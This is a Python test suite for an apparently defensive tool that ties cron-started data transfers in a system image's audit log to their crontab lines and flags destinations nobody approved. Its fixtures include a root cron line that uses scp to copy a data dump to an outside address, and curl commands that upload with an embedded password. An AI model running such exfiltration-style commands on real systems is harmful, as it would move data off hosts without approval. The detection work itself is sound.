"""--root: what in the image starts a transfer."""
import os

import harness
from harness import as_nobody, check, has, lacks, run, test, write
from story import Story, scp_job

LINE = "0 2 * * * root scp -q /srv/data/dump.tar drop@203.0.113.10:up/\n"


def image(story=None):
    write("image/etc/hostname", "etl-01\n")
    write("image/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
    story = story or scp_job()
    story.chatter()
    write("image/var/log/audit/audit.log", story.text())


def job(**how):
    row = run("transfers", "--root", "image", **how).rows()[0]
    reasons = {reason["sign"]: reason["text"] for reason in row["automation"]["reasons"]}
    return row["automation"]["job"]["artefact"], reasons


@test("--root: the line that starts it is the job's artefact, and a reason")
def _():
    image()
    write("image/etc/crontab", "# x\n" + LINE)
    write("image/etc/timezone", "Europe/Berlin\n")
    artefact, reasons = job()
    check(artefact == "/etc/crontab:2", "artefact", artefact)
    check(reasons["registered"] == "started by line 2 of /etc/crontab (0 2 * * *, Europe/Berlin)",
          "reason", reasons)
    has(run("scan", "--root", "image", code=1).out, "started by line 2 of /etc/crontab")


@test("--root: unregistered is said only where all tables could be read")
def _():
    image()
    write("image/etc/crontab", "1 1 * * * root true\n")
    spool = write("image/var/spool/cron/crontabs/alice", "1 1 * * * true\n")
    artefact, reasons = job()
    check(artefact is None and "unregistered" not in reasons, "no cron.d", artefact, reasons)
    write("image/etc/cron.d/x", "1 1 * * * root true\n")
    artefact, reasons = job()
    check(artefact is None, "artefact", artefact)
    check(reasons["unregistered"] == "no crontab of the image starts it", "reason", reasons)
    has(run("scan", "--root", "image", code=1).out, "no crontab of the image starts it")
    spool.parent.chmod(0)
    for folder in (harness.WORK / "image").rglob("*"):
        if folder.is_dir() and folder != spool.parent:
            folder.chmod(0o755)
    _, reasons = job(prefix=as_nobody())
    spool.parent.chmod(0o755)
    check("unregistered" not in reasons, "a spool without permission", reasons)


@test("--root: a line that was not due then is named for its command alone")
def _():
    image()
    write("image/etc/crontab", LINE.replace(" 2 ", " 5 "))
    write("image/etc/timezone", "Europe/Berlin\n")
    artefact, reasons = job()
    check(artefact == "/etc/crontab:1", "artefact", artefact)
    check(reasons["registered"] == "line 1 of /etc/crontab (0 5 * * *, Europe/Berlin) has this command, "
          "but was not due then by its schedule: the table has changed, or something else started it",
          "reason", reasons)


@test("--root: without an image nothing is said of what starts things")
def _():
    image()
    write("image/etc/crontab", LINE)
    row = run("transfers", "image/var/log/audit").rows()[0]
    check(row["automation"]["job"]["artefact"] is None, "artefact", row)
    check([r["sign"] for r in row["automation"]["reasons"]] == ["cron", "no-terminal"], "reasons",
          row)


@test("--root: lines that would start the same are said, the one due last is named")
def _():
    image()
    write("image/etc/crontab", LINE + LINE)
    artefact, reasons = job()
    check(artefact == "/etc/crontab:1", "the first", artefact)
    check(reasons["ambiguous"] == "line 2 of /etc/crontab (0 2 * * *) would start the same",
          "reason", reasons)
    write("image/etc/timezone", "Europe/Berlin\n")
    write("image/etc/crontab", LINE.replace(" 2 ", " 1 ") + LINE + LINE.replace(" 2 ", " 3 "))
    artefact, reasons = job()
    check(artefact == "/etc/crontab:2", "at 02:00 in Berlin", artefact)
    check("ambiguous" not in reasons, "reasons", reasons)


@test("--root: commands are compared as the log has them, and shown masked")
def _():
    story = Story()
    command = "curl -u me:Sw0rdfish -T f ftp://203.0.113.20/"
    story.cron_job(command).fork(702).exec("/usr/bin/curl", *command.split()).upload(
        5, "203.0.113.20", 21, 150_000_000)
    image(story)
    write("image/etc/crontab", f"0 1 * * * root {command.replace('Sw0rdfish', 'other')}\n"
                               f"0 2 * * * root {command}\n")
    artefact, _ = job()
    check(artefact == "/etc/crontab:2", "the one with that password", artefact)
    lacks(run("transfers", "--root", "image").out, "Sw0rdfish", "other")


@test("--root: jobs of other nodes in the image's log are not its own")
def _():
    image(scp_job(Story(node="bk-07")))
    write("image/etc/crontab", LINE)
    artefact, reasons = job()
    check(artefact is None and "registered" not in reasons, "reasons", artefact, reasons)


@test("--root: tables are read from inside the image alone")
def _():
    image()
    os.symlink(write("outside/crontab", LINE), harness.WORK / "image/etc/crontab")
    os.symlink("/proc/self/environ", harness.WORK / "image/etc/anacrontab")
    os.mkfifo(harness.WORK / "image/etc/rc.local")
    artefact, _ = job()
    check(artefact is None, "a link led out", artefact)


@test("inventory: what an image would send, whether approved, and when it ran")
def _():
    image()
    write("image/etc/timezone", "Europe/Berlin\n")
    write("image/etc/crontab", LINE + "0 3 * * * root curl -u me:Sw0rdfish -o f http://a.example/\n")
    result = run("inventory", "--root", "image", "--format", "jsonl", "--allow", "203.0.113.0/24",
                 code=0)
    push, pull, ran = result.rows()
    check((ran["type"], ran["runs"], ran["artefacts"], ran["due"], ran["approved"], ran["destinations"][0]["by"]) ==
          ("job", 1, ["/etc/crontab:1"], ["0 2 * * * (Europe/Berlin)"], True, "--allow"), "the job that ran", ran)
    check(push == {
        "type": "registered", "schema": 1, "host": "etl-01", "kind": "cron",
        "artefact": "/etc/crontab:1", "starter": None, "schedule": "0 2 * * *",
        "zone": "Europe/Berlin", "user": "root",
        "what": "scp -q /srv/data/dump.tar drop@203.0.113.10:up/", "script": None, "tool": "scp",
        "direction": "out",
        "destinations": [{"address": "203.0.113.10", "port": None, "name": None}],
        "approved": True, "last_run": "2026-12-02T01:00:00.200Z",
        "last_run_by": "session of cron", "bytes_out": None, "basis": "unknown", "files": [],
        "note": "what the command names to be sent is not in the image"}, "the row", push)
    check(pull["destinations"] == [{"address": None, "port": 80, "name": "a.example"}], "a name",
          pull)
    check(pull["last_run"] is None and not pull["approved"], "never seen, not approved", pull)
    lacks(result.out, "Sw0rdfish")
    has(run("inventory", "--root", "image", "--no-mask").out, "Sw0rdfish", "not approved",
        "2 registered transfers, 1 to addresses that nobody approved")


@test("inventory: an image that is not there")
def _():
    has(run("inventory", "--root", "gone", code=3).err, "gone")


@test("--root: of a log that shows nothing, scan says what is registered")
def _():
    story = Story()
    for _ in range(40):
        story.user_message("USER_START", 700, 0, 3, "PAM:session_open", "/usr/sbin/cron", "root",
                           "cron")
    write("image/etc/hostname", "etl-01\n")
    write("image/var/log/audit/audit.log", story.text())
    write("image/etc/crontab", LINE)
    sentence = "1 registered job would send to unapproved addresses; this log cannot show whether " \
               "it did"
    has(run("scan", "--root", "image", code=4).out, sentence)
    has(run("coverage", "--root", "image", code=4).out, sentence)
    lacks(run("scan", "--root", "image", "--allow", "203.0.113.0/24", code=4).out, "registered")
    lacks(run("scan", "image/var/log/audit", code=4).out, "registered")
    facts = run("transfers", "--root", "image").raw
    piped = run("judge", "--format", "jsonl", stdin=facts).rows()
    whole = run("scan", "--root", "image", "--format", "jsonl").rows()
    check([r for r in piped if r["type"] == "coverage"] ==
          [r for r in whole if r["type"] == "coverage"], "scan is transfers piped into judge", piped,
          whole)
